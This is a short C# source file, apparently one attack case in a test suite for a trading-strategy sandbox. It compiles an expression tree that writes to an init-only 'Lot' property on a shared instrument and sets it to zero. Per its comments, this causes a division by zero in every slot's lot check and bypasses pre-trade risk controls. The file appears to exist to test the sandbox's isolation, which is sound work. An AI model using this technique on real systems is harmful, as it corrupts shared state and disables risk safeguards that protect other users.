// Abuses: an expression tree assigns to an init-only property, which the language forbids and the tree does not.
// Harm: a compiled setter for the shared instrument's lot; 0 is a division by zero in every slot's lot check.
// Kind: bypass of pre-trade risk.
using System;
using System.Collections.Generic;
using System.Linq;
using System.Linq.Expressions;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.ExpressionTreeAssignAttack;

public sealed class ExpressionTreeAssignStrategy : Attacker
{
    private readonly Action<Instrument, Quantity> _setLot;

    public ExpressionTreeAssignStrategy()
    {
        ParameterExpression target = Expression.Parameter(typeof(Instrument));
        ParameterExpression value = Expression.Parameter(typeof(Quantity));
        _setLot = Expression.Lambda<Action<Instrument, Quantity>>(
            Expression.Assign(Expression.Property(target, nameof(Instrument.Lot)), value), target, value).Compile();
    }

    public override void OnBook(in BookEvent bookEvent)
    {
        _setLot(Context.Instrument(bookEvent.Instrument), 0);
        Act(1);
    }
}
